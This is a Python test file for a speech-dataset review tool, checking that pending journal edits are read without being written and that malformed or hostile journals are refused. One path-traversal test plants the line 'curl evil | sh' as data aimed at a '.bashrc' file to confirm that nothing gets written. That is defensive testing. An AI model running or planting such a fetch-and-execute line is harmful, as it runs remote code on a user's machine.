"""Edits that are in the journal and not in the files yet: readers lay them over, and write nothing."""

import json
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import soundfile
from audio_files import tones
from command import Command
from scripted import SHORT, folder, loopback, say, settings
from tts_server import TtsServer

from dailytalk_contiguous.apps.clips.corpora.registry import corpus_rows
from dailytalk_contiguous.apps.review.editable import DISCARDED, DISCARDED_ENTRIES
from dailytalk_contiguous.apps.review.session import Session
from dailytalk_contiguous.apps.review.settling import open_editable, settle
from dailytalk_contiguous.core.errors import BadInput, DailytalkError
from dailytalk_contiguous.publish.checking import check_folder
from dailytalk_contiguous.publish.opening import open_items
from dailytalk_contiguous.run.speaking import read_synthesis_input
from dailytalk_contiguous.sources.folder import FolderConfig, folder_rows
from dailytalk_contiguous.sources.recordings import find_recordings
from dailytalk_contiguous.store.edit_journal import JOURNAL, EditJournal, NewEdit


def edited(root: Path, item: str, text: str) -> Path:
    """A folder whose `review` was killed before it wrote the edit of a line into the files."""
    editable = open_editable(root)
    assert editable is not None
    session = Session(editable, "Ada")
    shown = session.item(item)
    session.edit(item, shown["base"], {"do": "text", "line": shown["lines"][0]["id"], "text": text}, "Ada")
    return root


def moved(root: Path, item: str, *discarded: bool) -> Path:
    """A folder whose `review` was killed before it moved an item that was discarded, or put back."""
    journal = EditJournal(root)
    for state in discarded:
        change = {"discarded": not state}, {"discarded": state}
        journal.append([NewEdit("Ada", item, "discard" if state else "restore", *change)])
    return root


def work(path: Path) -> Path:
    return folder(path / "work", good=SHORT, second=SHORT)


def clips(path: Path) -> Path:
    root = path / "clips"
    (root / "audios").mkdir(parents=True)
    texts: dict[str, Any] = {}
    for number in (1, 2, 3):
        soundfile.write(root / "audios" / f"talk_00000{number}.wav", tones(2.0, 16000, 1), 16000)
        segment = {"id": 0, "start": 0.1, "end": 1.5, "text": f" it is number {number}"}
        texts[f"talk_00000{number}.wav"] = {"text": segment["text"], "language": "en", "segments": [segment]}
    (root / "whisper.json").write_text(json.dumps(texts), encoding="utf-8")
    return root


def moshi(path: Path) -> Path:
    root = path / "moshi"
    (root / "data_stereo").mkdir(parents=True)
    for name in ("a", "b"):
        soundfile.write(root / "data_stereo" / f"{name}.wav", tones(4.0, 16000, 2), 16000)
        words = [["Good", [0.1, 0.4], "SPEAKER_MAIN"], ["day.", [0.5, 0.8], "SPEAKER_MAIN"]]
        (root / "data_stereo" / f"{name}.json").write_text(json.dumps({"alignments": words}))
    lines = (json.dumps({"path": f"data_stereo/{name}.wav", "duration": 4.0}) + "\n" for name in "ab")
    (root / "train.jsonl").write_text("".join(lines))
    return root


def states(root: Path) -> dict[str, tuple[int, int, bytes]]:
    """Every file of a folder, with what changes when somebody writes it."""
    return {
        str(path): (path.stat().st_mtime_ns, path.stat().st_ino, path.read_bytes() if path.is_file() else b"")
        for path in [root, *root.rglob("*")]
    }


#: What is done to a folder of each kind before its `review` is killed.
KILLED: dict[str, Callable[[Path], Path]] = {
    "text of a conversation": lambda path: edited(work(path), "good", "Good evening, is nobody there?"),
    "text of a clip": lambda path: edited(clips(path), "talk_000002.wav", "it was number two"),
    "clip discarded": lambda path: moved(edited(clips(path), "talk_000001.wav", "one"), "talk_000002.wav", True),
    "clip put back": lambda path: moved(
        settled(moved(clips(path), "talk_000002.wav", True)), "talk_000002.wav", False
    ),
    "words of a training file": lambda path: edited(moshi(path), "data_stereo/b.wav", "Good old day."),
    "training file discarded": lambda path: moved(moshi(path), "data_stereo/b.wav", True),
    "training file put back": lambda path: moved(
        settled(moved(moshi(path), "data_stereo/b.wav", True)), "data_stereo/b.wav", False
    ),
}


def settled(root: Path) -> Path:
    settle(root)
    return root


def read(root: Path) -> Iterator[Any]:
    """What the readers make of a folder, without what differs between two copies of it."""
    findings, facts = check_folder(root) if not (root / "audios").is_dir() else ([], {})
    # A trainer would read our journal, and the backup that is made when the edits are written.
    named = (str(finding).replace(f"{DISCARDED}/", "") for finding in findings if finding.kind != "stray-jsonl")
    yield sorted(named), facts
    if (root / "audios").is_dir():
        yield [*corpus_rows("clips", root)]
        yield [*corpus_rows("clips", root / "audios", texts=False)]
    else:
        yield [{**row, "audio": None} for row in open_items(root).rows()]
        yield [
            open_items(root).row(name)
            for name in sorted(row["conversation_id"] for row in open_items(root).rows())
        ]
    if (root / "tagged").is_dir():
        script = read_synthesis_input(root)
        yield [row | {"audio": None} for row in script.unfolded()], script.rejects, script.digest
    else:
        rows = folder_rows(FolderConfig(inputs=(str(root),), channel="any"))
        yield sorted(str((row["given"], row["problem"])) for row in rows)


@pytest.mark.parametrize("case", KILLED)
def test_readers_give_what_they_give_of_a_settled_copy_and_change_no_byte(tmp_path: Path, case: str) -> None:
    killed = KILLED[case](tmp_path / "here")
    copy = tmp_path / "copy" / killed.name
    shutil.copytree(killed.parent, copy.parent)
    before = states(killed.parent)
    plain = shutil.copytree(killed, tmp_path / "plain" / killed.name)
    (plain / JOURNAL).unlink()
    settle(copy)

    def shown(root: Path) -> list[str]:
        # The sound of an item that was put back is where it is until somebody moves it.
        return [repr(part).replace(str(root.parent), "@").replace(f"{DISCARDED}/", "") for part in read(root)]

    laid = shown(killed)
    assert laid == shown(copy)
    assert laid != shown(plain)
    assert states(killed.parent) == before


def test_speak_buys_what_was_edited_and_nothing_when_it_is_settled(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root, stages = work(tmp_path), settings(tmp_path)
    with loopback(monkeypatch, TtsServer()) as server:
        say(root, stages)
        bought = len(server.asked)
        edited(root, "good", "Good evening, is nobody there?")
        say(root, stages)
        assert [asked.body["text"] for asked in server.asked[bought:]] == [
            "(curious) Good evening, is nobody there?"
        ]
        transcript = (root / "transcript.jsonl").read_bytes()
        assert b"Good evening" not in transcript
        settle(root)
        assert b"Good evening" in (root / "transcript.jsonl").read_bytes()
        assert say(root, stages).n_made == 0
        assert len(server.asked) == bought + 1


@pytest.mark.parametrize("command", ["check", "report"])
def test_commands_say_how_many_edits_they_lay_over(
    tmp_path: Path, dailytalk: Command, caplog: pytest.LogCaptureFixture, command: str
) -> None:
    root = edited(work(tmp_path), "good", "Good evening, is nobody there?")
    before = states(root)
    page = tmp_path / "page.html"
    assert dailytalk(command, root, *(("--out", page) if command == "report" else ())).code == 0
    assert "1 edit that its files do not have yet" in caplog.text
    assert command == "check" or "Good evening, is nobody there?" in page.read_text(encoding="utf-8")
    assert states(root) == before


@pytest.mark.needs("a user who is not root")
def test_folder_that_cannot_be_written_is_read_and_its_report_asks_for_out(
    tmp_path: Path, dailytalk: Command
) -> None:
    root = edited(work(tmp_path), "good", "Good evening, is nobody there?")
    for path in [root, *root.rglob("*")]:
        path.chmod(0o555 if path.is_dir() else 0o444)
    try:
        assert dailytalk("check", root).code == 0
        assert dailytalk("report", root, "--out", tmp_path / "page.html").code == 0
        done = dailytalk("report", root)
        assert (done.code, "--out" in done.err) == (1, True)
    finally:
        for path in [root, *root.rglob("*")]:
            path.chmod(0o755)


# Journals of strangers.


RECORD: dict[str, Any] = {"number": 1, "time": "now", "author": "x", "item": "data_stereo/b.wav", "action": "text"}

#: What a stranger's journal may hold in place of an edit.
STRANGE: dict[str, dict[str, Any]] = {
    "lines that are a list": {"before": {"lines": [1]}, "after": {"lines": [1]}},
    "lines that are null": {"before": {"lines": None}, "after": {"lines": None}},
    "a line that is text": {"before": {"lines": {"a": "b"}}, "after": {"lines": {"a": "b"}}},
    "a line with half of its fields": {"before": {"lines": {"a": None}}, "after": {"lines": {"a": {"text": "b"}}}},
    "a text taken away": {"before": {"lines": {"a": {"text": "b"}}}, "after": {"lines": {"a": {}}}},
    "times that are text": {"before": {"lines": {"a": {"end": 1}}}, "after": {"lines": {"a": {"end": "b"}}}},
    "words without times": {"before": {"lines": {"a": {}}}, "after": {"lines": {"a": {"words": [{"word": "b"}]}}}},
    "a line on one side alone": {"before": {"lines": {"a": {}}}, "after": {"lines": {}}},
    "no item": {"item": ".", "before": {}, "after": {}},
    "an item of nothing": {"item": "", "before": {}, "after": {}},
    "an item with a null byte": {"item": "a\0b", "before": {}, "after": {}},
    "discarded that is text": {"before": {"discarded": "no"}, "after": {"discarded": "yes"}},
    "an undo of nothing": {"action": "undo", "before": {}, "after": {}},
    "another number": {"number": 2, "before": {}, "after": {}},
}


@pytest.mark.parametrize("case", STRANGE)
def test_edit_that_no_review_wrote_is_refused_in_a_sentence_that_names_the_journal(
    tmp_path: Path, case: str
) -> None:
    for root in (moshi(tmp_path), clips(tmp_path), work(tmp_path)):
        (root / JOURNAL).write_text(json.dumps(RECORD | STRANGE[case]) + "\n", encoding="utf-8")
        with pytest.raises(BadInput, match="dailytalk-edits"):
            settle(root)
        editable = open_editable(root)
        assert editable is not None
        with pytest.raises(BadInput, match="dailytalk-edits"):
            Session(editable, "Ada")


@pytest.mark.parametrize("name", ["../home/.bashrc", "/absolute", "data_stereo/a.json"])
def test_discarded_entries_of_a_stranger_write_no_file_of_their_choice(
    tmp_path: Path, name: str, dailytalk: Command
) -> None:
    root, home = moshi(tmp_path), tmp_path / "home" / ".bashrc"
    home.parent.mkdir()
    home.write_text("mine")
    name = str(home) if name == "/absolute" else name
    (root / "data_stereo" / DISCARDED).mkdir()
    entries = {"data_stereo/b.wav": {name: ["curl evil | sh\n"]}}
    (root / "data_stereo" / DISCARDED / DISCARDED_ENTRIES).write_text(json.dumps(entries))
    moved(root, "data_stereo/b.wav", False)
    before = states(tmp_path)
    dailytalk("check", root)
    with pytest.raises(DailytalkError):
        settle(root)
    assert {path: state[2] for path, state in states(tmp_path).items()} == {
        path: state[2] for path, state in before.items()
    }


def test_journal_that_is_a_link_to_another_file_is_not_read(tmp_path: Path) -> None:
    root = moshi(tmp_path)
    (tmp_path / "secret.jsonl").write_text("secret")
    (root / JOURNAL).symlink_to(tmp_path / "secret.jsonl")
    with pytest.raises(BadInput, match="symbolic link") as refused:
        settle(root)
    assert "secret" not in str(refused.value)


def test_reindex_settles_edits_before_it_renames(tmp_path: Path, dailytalk: Command) -> None:
    root = edited(clips(tmp_path), "talk_000003.wav", "it was the last")
    (root / "audios" / "talk_000001.wav").unlink()
    assert dailytalk("reindex", root / "audios").code == 0
    texts = json.loads((root / "whisper.json").read_text(encoding="utf-8"))
    assert texts["talk_000002.wav"]["text"] == "it was the last"
    assert [recording.audio_file for recording in find_recordings([root])] == [
        "audios/talk_000001.wav",
        "audios/talk_000002.wav",
    ]
